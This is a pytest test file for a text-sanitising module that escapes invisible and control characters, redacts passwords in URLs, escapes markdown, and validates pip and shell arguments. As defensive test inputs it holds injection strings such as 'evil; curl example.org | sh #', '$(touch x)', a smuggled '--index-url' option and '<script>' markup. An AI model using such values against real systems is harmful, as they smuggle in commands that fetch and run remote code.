"""Untrusted text, in a message, a card, a cell and a command: every character that could do harm is visible."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
import unicodedata

import pytest

from zoo.errors import UsageError, ZooError
from zoo.text import (
    code_block,
    code_span,
    markdown,
    message,
    pip_command,
    quoted,
    quoted_path,
    shown,
    shown_version,
    visible,
    without_credentials,
)

CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}  # control, format, surrogate, line and paragraph separators
HARMFUL = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in CATEGORIES]
NAMED = {  # the ranges that must be among them, whatever the version of Unicode says
    "C0": range(0x20),
    "DEL and C1": range(0x7F, 0xA0),
    "soft hyphen": [0xAD],
    "Arabic letter mark": [0x61C],
    "Mongolian vowel separator": [0x180E],
    "zero width": [*range(0x200B, 0x2010), *range(0x2060, 0x2070), 0xFEFF],
    "line and paragraph separator": [0x2028, 0x2029],
    "bidirectional": [*range(0x202A, 0x202F), *range(0x2066, 0x206A)],
    "surrogates": range(0xD800, 0xE000),
    "tags": range(0xE0000, 0xE0080),
    "blank letters and joiners": [0x34F, 0x115F, 0x1160, 0x3164, 0xFFA0, 0xE0100, 0xE01EF],
}
PLAIN = ["mlp-char", "Zoë", "日本語", "क्षि", "🦁", "❤\ufe0f", "a b", "C:\\temp", "…", "'\"`$<>&|"]


def test_every_harmful_character_becomes_an_escape() -> None:
    for character in HARMFUL:
        escaped = visible(f"a{character}b")
        assert escaped.isprintable(), ascii(character)
        assert escaped[1] == "\\", ascii(character)


@pytest.mark.parametrize("name", NAMED)
def test_every_named_range_becomes_escapes(name: str) -> None:
    for code in NAMED[name]:
        assert visible(chr(code)).isascii(), hex(code)
        assert chr(code) not in shown(f"a{chr(code)}b") + message(f"a{chr(code)}b") + quoted(f"a{chr(code)}b")


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert visible(text) == text == message(text)


def test_a_message_is_one_line_of_bounded_length_and_stays_the_same() -> None:
    for text in ("a\n\n b\t\x1b[31m", "x" * 10**6, "\u202e" * 10**6, "http://u:p@h/ " * 1000, "http://" * 10**5 + "@"):
        once = message(text)
        assert once.isprintable()
        assert len(once) < 5_000
        assert message(once) == once


def test_an_exception_that_cannot_be_shown_is_named() -> None:
    class BrokenError(Exception):
        def __str__(self) -> str:
            raise RuntimeError

    assert message(BrokenError()) == "<BrokenError>"


@pytest.mark.parametrize("kind", [ZooError, UsageError])
def test_the_text_of_an_error_is_a_message(kind: type[ZooError]) -> None:
    assert str(kind("no\nmodel \x1b]0;x\a of http://u:secret@h")) == "no model \\x1b]0;x\\x07 of http://***@h"
    assert "\x1b" not in repr(kind("\x1b"))


CREDENTIALS = {
    "http://user:secret@host:80/x": "http://***@host:80/x",
    "'https://secret@host'": "'https://***@host'",
    "socks5h://user:secret@[::1]:1080 failed": "socks5h://***@[::1]:1080 failed",
    "http://user:s/e?c#ret@host/": "http://***@host/",
    "http://user:secret@with@signs@host/a@b": "http://***@host/a@b",
    "HTTP://USER:SECRET@HOST": "HTTP://***@HOST",
    "proxy user:secret@host:3128": "proxy ***@host:3128",
    "http://a:secret@h and http://b:secret@h": "http://***@h and http://***@h",
    "(url='ftp://user:secret@h')": "(url='ftp://***@h')",
}
NO_CREDENTIALS = ["https://cdn/npm/pkg@1.2/names.txt", "http://h:80/a@b", "me@example.org", "http://[::1]/", "a: b@c"]


@pytest.mark.parametrize("text", CREDENTIALS)
def test_passwords_are_never_shown(text: str) -> None:
    assert without_credentials(text) == CREDENTIALS[text] == message(text)


@pytest.mark.parametrize("text", NO_CREDENTIALS)
def test_urls_without_a_password_stay(text: str) -> None:
    assert without_credentials(text) == text


MARKDOWN = {
    "<script>x</script>": "\\<script\\>x\\</script\\>",
    "[a](javascript:b)": "\\[a\\](javascript:b)",
    "![a](b)": "\\!\\[a\\](b)",
    "a|b": "a\\|b",
    "`a`": "\\`a\\`",
    "*a* _b_ ~c~": "\\*a\\* \\_b\\_ \\~c\\~",
    "0.1.0": "0.1.0",
    "https://example.org": "https&#58;//example.org",
    "www.example.org": "www&#46;example.org",
    "@someone": "&#64;someone",
    "&lt;": "\\&lt;",
    "a\nb": "a b",
    "\x1b\u202e": "\\\\x1b\\\\u202e",
    "names_2018.txt": "names_2018.txt",
    "mlp-char": "mlp-char",
}


@pytest.mark.parametrize("text", MARKDOWN)
def test_markdown_is_plain_text(text: str) -> None:
    assert markdown(text) == MARKDOWN[text]


@pytest.mark.parametrize("text", ["a", "`", "a`b", "``a", "a```", "```\n<b>", "", " a "])
def test_no_text_ends_its_code(text: str) -> None:
    span, block = code_span(text), code_block(f"$ {text}", "console")
    fence = span[: len(span) - len(span.lstrip("`"))]
    assert fence
    assert span.endswith(fence)
    assert fence not in span[len(fence) : -len(fence)].replace("`" * (len(fence) + 1), "")
    first, *inside, last = block.split("\n")
    assert first == f"{last}console"
    assert not any(line.startswith(last) for line in inside)


NO_NAMES = ["evil; curl example.org | sh #", "-r x.txt", "git+https://example.org/x", "a b", "", "a\n", "$(x)", "a'b"]
NO_NAMES += ["../x", "x/y", "a" * 101, "ａ", "x.", "a\u200bb", "--index-url=x"]


@pytest.mark.parametrize("text", NO_NAMES)
def test_what_cannot_be_a_distribution_is_never_advised(text: str) -> None:
    assert pip_command("install", text) is None


@pytest.mark.parametrize("text", ["zoo-trigram", "zoo_trigram", "A.b-1", "x"])
def test_a_distribution_is_advised(text: str) -> None:
    assert pip_command("install", text) == f"pip install {text}"
    assert shown_version(f"{text} 1.0.post1+cpu") == f"{text} 1.0.post1+cpu"
    assert shown_version(f"{text} 1.0; run 'x'").startswith('"')


WORDS = ["plain", "two words", "it's", "$(touch x)", "a\nb", "\x1b[31m", "\u202e", "\\", "`x`", "é", "-x", "*"]


@pytest.mark.parametrize("word", WORDS)
def test_a_quoted_word_is_the_word(word: str) -> None:
    shown_word = quoted(word)
    assert shown_word.isprintable()
    if visible(word) == word:
        assert shlex.split(shown_word) == [word]
    done = subprocess.run(["bash", "-c", f"printf %s {shown_word}"], capture_output=True)
    assert os.fsdecode(done.stdout) == word


def test_a_quoted_path_is_no_option() -> None:
    assert quoted_path("-x") == "./-x"
    assert quoted_path("runs/x") == "runs/x"
